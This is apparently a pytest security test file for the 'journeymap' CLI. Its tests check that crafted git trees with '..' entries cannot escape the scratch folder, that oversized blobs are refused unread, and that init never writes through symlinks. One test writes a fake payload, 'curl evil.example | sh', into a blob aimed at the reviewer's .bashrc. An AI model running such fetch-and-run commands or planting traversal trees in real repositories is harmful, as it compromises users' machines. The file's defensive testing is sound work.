"""Issue 18, paths and local files: a hostile branch or a hostile neighbour must not reach the reviewer's files.

Every test drives the real `journeymap` command (or the real module) against real git repositories made
with the real git binary, trees crafted with `git mktree` the way an attacker would push them.
"""

from __future__ import annotations

import json
import os
import subprocess
import sys
from pathlib import Path

import pytest

from .conftest import CLEAN_MAP, run_cli, write_map
from .gitrepo import GIT_ENV, commit_all, git, init_repo

OTHER_UID = 4242  # not root, not the user the tests run as: "another user" of a shared machine


@pytest.fixture
def repo(tmp_path: Path) -> Path:
    repo = init_repo(tmp_path / "repo")
    write_map(repo / "journey", CLEAN_MAP)
    commit_all(repo, "the map")
    return repo


def _mktree(repo: Path, entries: list[str]) -> str:
    """A tree made by hand from `ls-tree` lines: git's object store takes names no `git add` would."""
    return subprocess.run(["git", "-C", str(repo), "mktree"], input="".join(f"{e}\n" for e in entries),
                          capture_output=True, text=True, check=True, env={**os.environ, **GIT_ENV}).stdout.strip()


def _blob(repo: Path, content: bytes) -> str:
    return subprocess.run(["git", "-C", str(repo), "hash-object", "-w", "--stdin"], input=content,
                          capture_output=True, check=True).stdout.decode().strip()


def _branch(repo: Path, name: str, tree: str) -> str:
    """A commit of `tree` on top of main, as branch `name`: what a pull request would bring."""
    commit = git(repo, "commit-tree", "-p", "main", "-m", "innocent change", tree)
    git(repo, "update-ref", f"refs/heads/{name}", commit)
    return commit


def _with_journey(repo: Path, journey_tree: str) -> str:
    """main's root tree with its journey/ folder replaced by `journey_tree`."""
    entries = [line for line in git(repo, "ls-tree", "main").splitlines() if not line.endswith("\tjourney")]
    return _mktree(repo, [*entries, f"040000 tree {journey_tree}\tjourney"])


# --- 1. paths from git stay inside the scratch folder ---------------------------------------------------------

def test_a_tree_entry_named_dot_dot_cannot_write_outside_the_scratch_folder(repo: Path, tmp_path: Path) -> None:
    # `diff` exports each revision to $TMPDIR/journeymap-rev-*/journey/; three `..` from there is home/
    home = tmp_path / "home"
    scratch_parent = home / "tmp"
    scratch_parent.mkdir(parents=True)
    bashrc = home / ".bashrc"
    bashrc.write_text("the reviewer's own\n")
    payload = _blob(repo, b"curl evil.example | sh\n")
    tree = _mktree(repo, [f"100644 blob {payload}\t.bashrc"])
    for _ in range(2):  # and journey/.. below: three in all
        tree = _mktree(repo, [f"040000 tree {tree}\t.."])
    journey = git(repo, "rev-parse", "main:journey")
    entries = git(repo, "ls-tree", journey).splitlines()
    commit = _branch(repo, "evil", _with_journey(repo, _mktree(repo, [*entries, f"040000 tree {tree}\t.."])))

    result = run_cli("diff", "journey", "--base", "main", "--head", "evil", cwd=repo,
                     env={"TMPDIR": str(scratch_parent)})

    assert bashrc.read_text() == "the reviewer's own\n"
    assert not list(scratch_parent.rglob(".bashrc"))
    assert result.returncode == 2, result.stdout + result.stderr
    assert "Traceback" not in result.stderr
    [message] = result.stderr.strip().splitlines()
    assert commit[:12] in message and "`../../../.bashrc`" in message and "leads out of the map folder" in message


# --- 2. a blob too large for a map file is never read ---------------------------------------------------------

HUGE = 200 * 1024 * 1024

PEAK_MEMORY = """\
import json, resource, subprocess, sys
result = subprocess.run(sys.argv[1:], capture_output=True, text=True)
peak_kb = resource.getrusage(resource.RUSAGE_CHILDREN).ru_maxrss  # the largest of journeymap and its git calls
print(json.dumps({"peak_kb": peak_kb, "returncode": result.returncode, "stdout": result.stdout,
                  "stderr": result.stderr}))
"""


def _huge_blob(repo: Path) -> str:
    """200 MB of zeros into git's store, streamed: it compresses to about 200 KB, as it would in a push."""
    with subprocess.Popen(["git", "-C", str(repo), "hash-object", "-w", "--stdin"], stdin=subprocess.PIPE,
                          stdout=subprocess.PIPE) as writer:
        assert writer.stdin is not None and writer.stdout is not None
        chunk = bytes(1024 * 1024)
        for _ in range(HUGE // len(chunk)):
            writer.stdin.write(chunk)
        writer.stdin.close()
        return writer.stdout.read().decode().strip()


def test_a_blob_larger_than_a_map_file_is_refused_from_its_size_without_being_read(repo: Path) -> None:
    index = {**os.environ, **GIT_ENV, "GIT_INDEX_FILE": str(repo / ".git" / "huge-index")}
    subprocess.run(["git", "-C", str(repo), "read-tree", "main"], env=index, check=True)
    subprocess.run(["git", "-C", str(repo), "update-index", "--add", "--cacheinfo",
                    f"100644,{_huge_blob(repo)},journey/stages/huge.yaml"], env=index, check=True)
    tree = subprocess.run(["git", "-C", str(repo), "write-tree"], env=index, capture_output=True, text=True,
                          check=True).stdout.strip()
    _branch(repo, "huge", tree)

    measured = subprocess.run([sys.executable, "-c", PEAK_MEMORY, sys.executable, "-m", "journeymap", "diff",
                               "journey", "--base", "main", "--head", "huge", "--format", "json",
                               "--fail-on-new-errors"], cwd=repo, capture_output=True, text=True, timeout=120)
    child = json.loads(measured.stdout)

    assert child["peak_kb"] * 1024 < HUGE / 4, f"peak {child['peak_kb'] // 1024} MB"
    assert "Traceback" not in child["stderr"]
    assert child["returncode"] == 1, child["stderr"]  # a new error: the file that cannot be a map file
    report = json.loads(child["stdout"])
    [refused] = [f for f in report["findings"]["introduced"] if f["file"] == "stages/huge.yaml"]
    assert "the file is 200.0 MB, more than the 5 MB a map file may have; it was not read" in refused["message"]


# --- 1. init --force never writes through a link --------------------------------------------------------------

@pytest.mark.parametrize("link, points_at", [
    ("README.md", "outside/README.md"),  # dangling: the file it names does not exist yet
    ("journey", "outside"),  # a folder init would fill
])
def test_init_force_refuses_a_link_in_the_folder_and_writes_nothing(tmp_path: Path, link: str,
                                                                      points_at: str) -> None:
    outside = tmp_path / "outside"
    outside.mkdir()
    ours = tmp_path / "ours"
    ours.mkdir()
    (ours / "notes.txt").write_text("ours\n")
    (ours / link).symlink_to(tmp_path / points_at)

    result = run_cli("init", "ours", "--force", cwd=tmp_path)

    assert list(outside.iterdir()) == []
    assert sorted(p.name for p in ours.iterdir()) == sorted(["notes.txt", link])  # all or nothing
    assert result.returncode == 2 and "Traceback" not in result.stderr
    [message] = result.stderr.strip().splitlines()
    assert f"a link to {tmp_path / points_at}" in message and "init never writes through a link" in message
    assert f"ours/{link}" in message
